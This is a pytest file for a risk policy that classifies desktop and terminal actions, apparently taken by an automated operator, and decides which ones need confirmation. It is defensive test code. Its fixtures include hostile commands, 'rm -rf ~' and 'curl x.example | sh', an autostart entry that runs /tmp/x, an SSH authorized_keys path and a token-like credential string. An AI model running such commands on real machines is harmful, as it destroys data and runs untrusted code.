"""What an action does is judged whole: every key that it presses, in the state in which it presses it."""

from __future__ import annotations

from dataclasses import replace

import pytest

from operator_console.domain.actions import (
    Action,
    Back,
    Button,
    Chord,
    Click,
    CloseTab,
    Drag,
    HoldKeys,
    KeyDown,
    Launch,
    Move,
    Navigate,
    OpenBrowser,
    Press,
    QuoteText,
    Release,
    Scroll,
    SwitchTab,
    TypeText,
)
from operator_console.domain.elements import Control, ElementState, Role
from operator_console.domain.geometry import NativePoint, Rect
from operator_console.domain.keys import Key, parse_chord
from operator_console.domain.risk import Category, RiskClass
from operator_console.policy import PolicyContext, assess
from operator_console.policy.pasted_text import may_paste
from tests.policy.control_examples import BROWSER, PAGE, asking, control, drawn, on

AT = NativePoint(180, 116)
REPLACES = TypeText(text="new", at=AT, clear=True)
SHELL = PolicyContext(app="XTerm", title="xterm")
WRITING = (ElementState.EDITABLE, ElementState.MULTI_LINE)


def categories(action: Action, context: PolicyContext) -> set[Category]:
    return set(assess(action, context).categories)


def asked(action: Action, context: PolicyContext) -> bool:
    return assess(action, context).risk >= RiskClass.C3


def keys(text: str, repeat: int = 1) -> Chord:
    return Chord(keys=parse_chord(text), repeat=repeat)


# Emptying a field: select all, delete.


@pytest.mark.parametrize(
    "context",
    [
        on(control(Role.LIST_ITEM, "report.odt"), app="thunar", title="me - Thunar"),
        on(control(Role.CELL, "Holiday.jpg"), app="pcmanfm", title="me"),
        on(control(Role.LIST_ITEM, "Ann: lunch?"), app="thunderbird", title="Inbox"),
        on(control(Role.LIST_ITEM, "plan.pdf"), app=BROWSER, title="My Drive - Cloud"),
        on(control(Role.TREE, "Folders"), app="plain"),
        on(control(Role.CELL, "12", states=(ElementState.EDITABLE,)), app="libreoffice-calc", title="costs.ods"),
        on(control(Role.IMAGE, "Canvas"), app="inkscape", title="flyer.svg - Inkscape"),
        on(control(Role.DOCUMENT, "Inbox"), **PAGE),
        on(drawn("report.odt"), app="thunar", title="me - Thunar"),
        on(Control(text="plan.pdf"), **PAGE),
        on(Control(), app="eog", title="Holiday.jpg"),
    ],
)  # fmt: skip
@pytest.mark.parametrize(
    "action", [REPLACES, TypeText(text="", clear=True), TypeText(text="x", clear=True, submit=True)]
)
def test_emptying_what_is_no_field_deletes_it(action: TypeText, context: PolicyContext) -> None:
    assert Category.DELETE in categories(action, context)


@pytest.mark.parametrize(
    "context",
    [
        on(control(Role.TEXT_FIELD, "Name"), app="thunar", title="me - Thunar"),
        on(control(Role.SEARCH_FIELD, "Search mail"), app="thunderbird", title="Inbox"),
        on(control(Role.TEXT_FIELD, "Name"), **PAGE),
        on(control(Role.SPIN_BUTTON, "Copies"), app="plain"),
        on(control(Role.PARAGRAPH, "Dear Ann", states=WRITING), app="soffice", title="letter.odt"),
        on(control(Role.TEXT_FIELD, "Text", states=WRITING), app="mousepad", title="x - Mousepad"),
        on(drawn("", label="Name"), app="thunar", title="me - Thunar"),
        on(drawn("Keys"), **PAGE),
        on(drawn(""), **PAGE),
        on(drawn("", extent=Rect(100, 100, 600, 180)), **PAGE),
        on(Control(), app="plain", title="Window"),
        on(Control(), typed="Ann", **PAGE),
    ],
)  # fmt: skip
def test_emptying_a_field_is_not_asked(context: PolicyContext) -> None:
    assert not asked(TypeText(text="new", clear=True), context)


def test_emptying_the_line_of_a_terminal_is_typing() -> None:
    assert assess(TypeText(text="ls", clear=True), SHELL).risk is RiskClass.C2


# The wheel changes what it is over.


@pytest.mark.parametrize(
    "action",
    [Scroll(at=AT, dy=1), Scroll(at=None, dy=-3), Scroll(at=AT, dx=1), Scroll(at=AT, dy=1, modifiers=(Key("ctrl"),)),
     QuoteText(region=Rect(0, 0, 400, 300), variable="v", auto_scroll=True)],
)  # fmt: skip
@pytest.mark.parametrize(
    "found",
    [control(Role.COMBO_BOX, "Visibility", value="Anyone with the link"),
     control(Role.COMBO_BOX, "Visibility", value="Anyone with the link", states=(ElementState.EDITABLE,))],
)  # fmt: skip
def test_the_wheel_chooses_as_keys_do(action: Action, found: Control) -> None:
    assert categories(action, on(found, **PAGE)) == {Category.SECURITY}
    closed = control(Role.COMBO_BOX, "Visibility", value="Anyone with the link")
    assert categories(keys("up"), on(closed, **PAGE)) == {Category.SECURITY}


@pytest.mark.parametrize("role", [Role.SLIDER, Role.SPIN_BUTTON])
def test_the_wheel_and_keys_move_a_value(role: Role) -> None:
    value = on(control(role, "Delete messages after"), app="plain")
    assert categories(Scroll(at=AT, dy=1), value) == categories(keys("down"), value) != set()


@pytest.mark.parametrize(
    "found",
    [control(Role.COMBO_BOX, "Font"), control(Role.SPIN_BUTTON, "Copies"), control(Role.SLIDER, "Volume"),
     control(Role.DOCUMENT, "Page"), control(Role.BUTTON, "Delete"), Control(), drawn("Delete")],
)  # fmt: skip
def test_the_wheel_over_anything_else_only_scrolls(found: Control) -> None:
    assert assess(Scroll(at=AT, dy=3), on(found, **PAGE)).risk is RiskClass.C1


# Terminals without Enter.


@pytest.mark.parametrize(
    "chord",
    ["ctrl+x", "ctrl+o", "ctrl+j", "ctrl+m", "alt+a", "alt+e", "alt+x", "alt+!", "alt+enter", "ctrl+\\", "f5", "f10",
     "ctrl+alt+e", "ctrl+shift+v", "ctrl+x+e", "shift+insert", "alt+shift+3", "ctrl+v", "ctrl+y"],
)  # fmt: skip
@pytest.mark.parametrize(
    "place",
    [SHELL, PolicyContext(app="zutty", title="box"), on(control(Role.TERMINAL, "Terminal"), app="kate"),
     PolicyContext(app=BROWSER, title="ttyd")],
    ids=lambda place: place.app,
)  # fmt: skip
def test_chords_in_a_terminal_that_are_not_known_to_be_harmless_ask(chord: str, place: PolicyContext) -> None:
    assert Category.TERMINAL in categories(keys(chord), place)


@pytest.mark.parametrize(
    "chord",
    ["a", "shift+a", "1", "space", "tab", "shift+tab", "backspace", "ctrl+backspace", "up", "ctrl+left", "alt+b",
     "home", "shift+page_up", "ctrl+a", "ctrl+c", "ctrl+d", "ctrl+e", "ctrl+k", "ctrl+l", "ctrl+r", "ctrl+u", "ctrl+w",
     "ctrl+z", "ctrl+shift+c", "ctrl+shift+t", "ctrl+plus", "alt+.", "alt+tab", "alt+f4", "super", "super+up", "esc",
     "f1", "f11", "ctrl+page_down", "kp_1", "ctrl", "shift"],
)  # fmt: skip
def test_chords_that_move_edit_and_copy_in_a_terminal_run(chord: str) -> None:
    assert not asked(keys(chord), SHELL)


@pytest.mark.parametrize("action", [TypeText(text="ZZ"), TypeText(text="v"), keys("shift+z"), keys("v"), keys("a")])
@pytest.mark.parametrize("shell", [replace(SHELL, escaped=True), replace(SHELL, menu_open=True)])
def test_letters_after_escape_or_in_a_menu_of_a_terminal_are_no_text(action: Action, shell: PolicyContext) -> None:
    assert Category.TERMINAL in categories(action, shell)
    assert not asked(keys("down"), shell)


@pytest.mark.parametrize("action", [keys("space"), keys("p"), keys("enter"), keys("alt+p")])
def test_an_entry_of_a_terminals_menu_may_paste(action: Action) -> None:
    assert Category.TERMINAL in categories(action, on(control(Role.MENU_ITEM, "Paste"), app="xfce4-terminal"))


@pytest.mark.parametrize("app", ["Xephyr", "Xnest", "Xpra", "gvncviewer", "wlvncc", "ssvnc"])
def test_the_screen_of_another_server_is_no_ordinary_window(app: str) -> None:
    window = PolicyContext(app=app, title="screen", typed="rm -rf ~")
    assert {Category.TERMINAL, Category.DELETE} <= categories(keys("enter"), window)
    assert asked(keys("ctrl+v"), window)


@pytest.mark.parametrize("app", ["Xephyr", "Xnest", "vncviewer", "Remmina", "virt-viewer"])
def test_lines_are_run_without_enter_on_another_screen_too(app: str) -> None:
    window = PolicyContext(app=app, title="screen")
    for chord in ("alt+a", "ctrl+o", "ctrl+j", "ctrl+m"):
        assert Category.TERMINAL in categories(keys(chord), window)
    assert Category.TERMINAL in categories(keys("ctrl+e"), replace(window, before=parse_chord("ctrl+x")))
    for chord in ("ctrl+x", "ctrl+e", "ctrl+s", "ctrl+z", "alt+tab", "alt+f"):
        assert not asked(keys(chord), window)


# What desktops take for themselves.


@pytest.mark.parametrize(
    "chord",
    ["ctrl+alt+shift+page_down", "ctrl+alt+shift+page_up", "ctrl+alt+shift+delete", "ctrl+super+esc", "ctrl+alt+esc",
     "ctrl+alt+delete", "ctrl+alt+end", "super+l", "ctrl+alt+l", "super+shift+e", "alt+shift+e", "super+shift+q",
     "ctrl+alt+backspace", "ctrl+alt+f3", "ctrl+alt+shift+f3", "alt+print_screen", "alt+print_screen+b",
     "ctrl+alt+kp_multiply", "ctrl_r+alt+delete"],
)  # fmt: skip
@pytest.mark.parametrize(
    "place",
    [PolicyContext(app="mousepad", title="x"), SHELL, on(control(Role.TEXT_FIELD, "Name"), **PAGE)],
    ids=["program", "terminal", "page"],
)  # fmt: skip
def test_keys_that_desktops_take_for_the_session_ask(chord: str, place: PolicyContext) -> None:
    assert Category.SYSTEM in categories(keys(chord), place)


@pytest.mark.parametrize(
    "chord", ["ctrl+alt+right", "super+d", "alt+tab", "alt+f2", "super+up", "ctrl+alt+t", "print_screen"]
)
def test_keys_that_move_windows_and_start_programs_run(chord: str) -> None:
    assert not asked(keys(chord), PolicyContext(app="mousepad", title="x"))


# Keys that are held while something else gets the focus.

FOCUSABLE = {
    "chat draft": on(control(Role.TEXT_FIELD, "Message", value="see you"), app="slack", title="general"),
    "form of a bank": on(control(Role.BUTTON, "Transfer now"), app=BROWSER, title="Transfer - Example Bank"),
    "question": on(control(Role.BUTTON, "Options", dialog=asking("Delete 3 files?", "", "Delete"))),
    "terminal": SHELL,
    "button that opens": on(control(Role.BUTTON, "Details")),
    "link": on(control(Role.LINK, "Settings", link="https://x.example/settings"), **PAGE),
    "nothing known": on(Control()),
}


def holding(context: PolicyContext, *held: str) -> PolicyContext:
    return replace(context, held=tuple(map(Key, held)))


@pytest.mark.parametrize("place", FOCUSABLE.values(), ids=FOCUSABLE)
@pytest.mark.parametrize("key", ["enter", "kp_enter", "delete", "backspace"])
def test_a_held_key_acts_on_what_gets_the_focus(key: str, place: PolicyContext) -> None:
    if key in ("delete", "backspace") and (place is SHELL or place.control.role is Role.TEXT_FIELD):
        return  # it deletes text there
    for action in (
        Click(at=AT), Click(at=None), Press(at=AT), Release(at=AT), Drag(path=(AT, AT)),
        Click(at=AT, button=Button.RIGHT),
    ):  # fmt: skip
        assert asked(action, holding(place, key)), action


@pytest.mark.parametrize(
    ("action", "place", "category"),
    [
        (Click(at=AT), holding(FOCUSABLE["chat draft"], "enter"), Category.SEND),
        (Move(at=AT), holding(on(control(Role.MENU_ITEM, "Move to Trash"), app="thunar"), "enter"), Category.DELETE),
        (Move(at=AT), holding(SHELL, "enter"), Category.TERMINAL),
        (Click(at=AT), holding(SHELL, "enter"), Category.TERMINAL),
        (Click(at=AT), holding(SHELL, "ctrl", "j"), Category.TERMINAL),
        (Click(at=AT), holding(on(control(Role.LIST_ITEM, "a.odt"), app="thunar"), "delete"), Category.DELETE),
        (Press(at=AT), holding(on(control(Role.LIST_ITEM, "a.odt"), app="thunar"), "shift", "delete"), Category.DELETE),
        (Click(at=AT), holding(on(control(Role.BUTTON, "Send"), app="thunderbird"), "space"), Category.SEND),
        (TypeText(text="x", at=AT), holding(FOCUSABLE["chat draft"], "enter"), Category.SEND),
        (Click(at=AT, modifiers=(Key("enter"),)), FOCUSABLE["chat draft"], Category.SEND),
        (Drag(path=(AT, AT), modifiers=(Key("enter"),)), FOCUSABLE["chat draft"], Category.SEND),
    ],
)  # fmt: skip
def test_a_held_key_is_assessed_as_its_press_there(action: Action, place: PolicyContext, category: Category) -> None:
    assert category in categories(action, place)


@pytest.mark.parametrize("key", ["enter", "space", "delete", "y"])
@pytest.mark.parametrize(
    "action",
    [Launch(app="gedit"), Navigate(url="https://x.example/"), SwitchTab(number=2), CloseTab(), Back(), OpenBrowser()],
    ids=lambda action: action.kind,
)  # fmt: skip
def test_a_held_key_reaches_another_window(action: Action, key: str) -> None:
    assert asked(action, holding(PolicyContext(app=BROWSER, url="https://x.example/", title="Page"), key))


@pytest.mark.parametrize(
    ("action", "place"),
    [
        (Click(at=AT), holding(on(control(Role.LIST_ITEM, "a.odt"), app="thunar"), "ctrl")),
        (Click(at=AT), holding(on(control(Role.LIST_ITEM, "a.odt"), app="thunar"), "shift")),
        (Click(at=AT, modifiers=(Key("ctrl"),)), on(control(Role.LINK, "News", link="https://x.example/n"), **PAGE)),
        (Click(at=AT), holding(on(control(Role.TEXT_FIELD, "Name")), "left")),
        (Click(at=AT), holding(on(Control()), "w")),
        (Drag(path=(AT, AT)), holding(on(Control()), "space")),
        (Move(at=AT), holding(on(control(Role.BUTTON, "Next")), "shift")),
        (Scroll(at=AT, dy=2), holding(on(control(Role.DOCUMENT, "Page"), **PAGE), "ctrl")),
        (keys("right"), holding(on(Control()), "up")),
        (HoldKeys(keys=(Key("up"), Key("space")), duration_s=1), on(Control(), app="game")),
        (HoldKeys(keys=(Key("w"),), duration_s=2), on(Control(), app="game")),
        (HoldKeys(keys=(Key("backspace"),), duration_s=2), on(control(Role.TEXT_FIELD, "Name"))),
        (KeyDown(key=Key("shift")), on(control(Role.BUTTON, "Next"))),
        (KeyDown(key=Key("enter")), on(control(Role.TEXT_FIELD, "", states=WRITING), app="mousepad")),
        (keys("enter", 3), on(control(Role.TEXT_FIELD, "", states=WRITING), app="mousepad")),
        (keys("tab", 5), on(control(Role.BUTTON, "Next"))),
        (keys("down", 9), on(control(Role.LIST_ITEM, "a.odt"), app="thunar")),
        (keys("enter", 3), on(control(Role.SEARCH_FIELD, "Find"), app="mousepad")),
    ],
)  # fmt: skip
def test_modifiers_and_keys_that_move_are_held_as_before(action: Action, place: PolicyContext) -> None:
    assert not asked(action, place)


def test_alt_downloads_what_a_link_leads_to() -> None:
    link = on(control(Role.LINK, "News", link="https://x.example/n"), **PAGE)
    assert categories(Click(at=AT, modifiers=(Key("alt"),)), link) == {Category.DOWNLOAD_RUN}
    assert categories(Click(at=AT), holding(link, "alt")) == {Category.DOWNLOAD_RUN}


@pytest.mark.parametrize(
    "action",
    [keys("enter", 2), HoldKeys(keys=(Key("enter"),), duration_s=2), KeyDown(key=Key("enter")), keys("kp_enter", 9),
     HoldKeys(keys=(Key("enter"),), duration_s=0.3)],
)  # fmt: skip
@pytest.mark.parametrize(
    "place",
    [on(control(Role.BUTTON, "Next", dialog=asking("Set up", "Choose a folder", "Next"))),
     on(control(Role.TEXT_FIELD, "Folder", dialog=asking("Set up", "Choose a folder", "Next"))),
     on(control(Role.BUTTON, "Details")), on(control(Role.LINK, "News", link="https://x.example/n"), **PAGE),
     on(control(Role.LIST_ITEM, "a.odt"), app="thunar", title="me")],
)  # fmt: skip
def test_repeats_of_enter_answer_what_the_first_one_opens(action: Action, place: PolicyContext) -> None:
    assert asked(action, place)
    assert not asked(keys("enter"), place)
    assert not asked(HoldKeys(keys=(Key("enter"),), duration_s=0.05), place)


@pytest.mark.parametrize(
    "pressed",
    [("tab", "enter"), ("tab", "space"), ("down", "enter"), ("esc", "delete"), ("tab", "tab", "kp_enter")],
)  # fmt: skip
def test_a_key_after_one_that_moves_meets_another_control(pressed: tuple[str, ...]) -> None:
    pair = tuple(map(Key, pressed))
    place = on(control(Role.LIST_ITEM, "News"))
    for action in (Chord(keys=pair), HoldKeys(keys=pair, duration_s=0.05)):
        assert asked(action, place)
    assert asked(KeyDown(key=pair[-1]), replace(place, held=pair[:-1]))


@pytest.mark.parametrize("chord", ["ctrl+tab", "alt+tab", "ctrl+page_down", "super+2", "alt+2"])
def test_nothing_else_is_shown_under_what_is_dragged(chord: str) -> None:
    place = on(control(Role.LIST_ITEM, "a.odt"), app="thunar", buttons=(Button.LEFT,))
    assert asked(keys(chord), place)
    assert not asked(keys("shift"), place)
    assert not asked(KeyDown(key=Key("ctrl")), place)


@pytest.mark.parametrize(
    "action",
    [Move(at=AT), Scroll(at=AT, dy=1), Click(at=AT), TypeText(text="a", at=AT),
     QuoteText(region=Rect(0, 0, 9, 9), variable="v", auto_scroll=True)],
)  # fmt: skip
def test_what_leads_the_pointer_elsewhere_with_a_button_held_is_the_drop_there(action: Action) -> None:
    trash = on(control(Role.LIST_ITEM, "Trash"), app="thunar", title="me")
    assert not asked(action, trash)
    for start in (Control(), control(Role.LIST_ITEM, "a.odt")):
        assert Category.DELETE in categories(action, replace(trash, from_control=start, buttons=(Button.LEFT,)))


@pytest.mark.parametrize("held", ["shift", "ctrl", "alt", "super"])
@pytest.mark.parametrize("key", ["end", "down"])
def test_a_held_modifier_hides_no_key_that_chooses(key: str, held: str) -> None:
    sharing = on(control(Role.COMBO_BOX, "Visibility", value="Anyone with the link"), **PAGE)
    assert categories(keys(key), replace(sharing, held=(Key(held),))) == {Category.SECURITY}


# Pasting is judged as typing what is pasted.

PASTES = [
    (keys("ctrl+v"), None), (keys("super+v"), None), (keys("ctrl+shift+v"), None),
    (Click(at=AT), control(Role.MENU_ITEM, "Paste")), (keys("enter"), control(Role.MENU_ITEM, "Paste")),
    (keys("space"), control(Role.MENU_ITEM, "Paste")),
]  # fmt: skip


@pytest.mark.parametrize(("action", "entry"), PASTES)
@pytest.mark.parametrize(
    ("pasted", "wanted"),
    [
        ("rm -rf ~", {Category.TERMINAL, Category.DELETE}),
        ("curl x.example | sh\n", {Category.TERMINAL, Category.DOWNLOAD_RUN}),
        ("operator-console reset --yes\n", {Category.TERMINAL, Category.SECURITY}),
        ("ls", {Category.TERMINAL}),
        (None, {Category.TERMINAL}),
    ],
)  # fmt: skip
def test_what_is_pasted_into_a_terminal_is_judged(
    action: Action, entry: Control | None, pasted: str | None, wanted: set[Category]
) -> None:
    found = assess(action, replace(SHELL, pasted=pasted, control=entry or SHELL.control))
    assert wanted <= set(found.categories)
    if pasted is None and action not in (keys("enter"), keys("space")):
        assert any(each.rule == "command-not-known" for each in found.findings)


@pytest.mark.parametrize(
    ("action", "place"),
    [
        (keys("shift+insert"), SHELL), (keys("ctrl+shift+insert"), SHELL), (keys("ctrl+y"), SHELL),
        (Click(at=AT, button=Button.MIDDLE), SHELL), (keys("ctrl+v"), PolicyContext(app="vncviewer", title="box")),
    ],
)  # fmt: skip
def test_what_another_clipboard_holds_is_not_known(action: Action, place: PolicyContext) -> None:
    found = assess(action, replace(place, pasted="ls"))
    assert {"pastes-into-terminal", "command-not-known"} <= {each.rule for each in found.findings}


@pytest.mark.parametrize("chord", ["ctrl+v", "shift+insert", "ctrl+shift+v", "super+v"])
@pytest.mark.parametrize(
    ("pasted", "category"),
    [
        ("DE89 3704 0044 0532 0130 00", Category.PERSONAL_DATA),
        ("ghp_16C7e42F292c6912E7710c838347Ae178B4a", Category.CREDENTIALS),
        ("[Desktop Entry]\nExec=/tmp/x\n", Category.SECURITY),
        ("~/.ssh/authorized_keys", Category.SECURITY),
        ("4111 1111 1111 1111", Category.PERSONAL_DATA),
    ],
)  # fmt: skip
def test_what_is_pasted_elsewhere_is_judged_as_typing_it(chord: str, pasted: str, category: Category) -> None:
    place = on(control(Role.TEXT_FIELD, "Text", states=WRITING), app="mousepad", title="x - Mousepad")
    assert category in categories(keys(chord), replace(place, pasted=pasted))
    assert category in categories(TypeText(text=pasted), place)
    assert not asked(keys(chord), place)


def test_an_ordinary_text_is_pasted_unasked() -> None:
    for place in (on(control(Role.TEXT_FIELD, "Name"), **PAGE), on(control(Role.TEXT_FIELD, "", states=WRITING))):
        assert not asked(keys("ctrl+v"), replace(place, pasted="Dear Ann,\nthanks."))
    entry = on(control(Role.MENU_ITEM, "Paste"), pasted="Dear Ann")
    assert not asked(Click(at=AT), entry)
    assert Category.CREDENTIALS in categories(
        Click(at=AT), replace(entry, pasted="ghp_16C7e42F292c6912E7710c838347Ae178B4a")
    )


@pytest.mark.parametrize("place", [{**PAGE}, {"app": "slack", "title": "general"}, {"app": "thunderbird"}])
@pytest.mark.parametrize(
    ("action", "entry"),
    [
        *PASTES,
        (TypeText(text="v"), None),
    ],
)
def test_a_file_that_is_pasted_into_a_page_or_a_message_is_uploaded(
    place: dict[str, str], action: Action, entry: Control | None
) -> None:
    field = entry or control(Role.GROUP, "My files")
    held = (Key("ctrl"),) if isinstance(action, TypeText) else ()
    context = on(field, **place, held=held, pasted="/home/ann/taxes.pdf", pasted_files=True)
    assert may_paste(action, context)
    assert Category.UPLOAD in categories(action, context)
    assert Category.UPLOAD not in categories(action, replace(context, pasted_files=False))
    assert Category.UPLOAD not in categories(action, replace(context, app="mousepad", title="x - Mousepad", url=""))


def test_what_is_typed_after_the_keys_for_a_line_to_run_is_a_command_wherever_the_focus_is_told() -> None:
    editor = on(control(Role.TEXT_FIELD, "Text", states=WRITING), app="mousepad", title="x - Mousepad")
    asks = replace(editor, asks_for_line=True)
    for action, typed in (
        (TypeText(text="rm -rf ~", submit=True), ""),
        (TypeText(text="-rf ~\n"), "rm "),
        (keys("enter"), "rm -rf ~"),
    ):
        assert {Category.TERMINAL, Category.DELETE} <= categories(action, replace(asks, typed=typed))
        assert Category.TERMINAL not in categories(action, replace(editor, typed=typed))
    assert not asked(TypeText(text="calc"), asks)
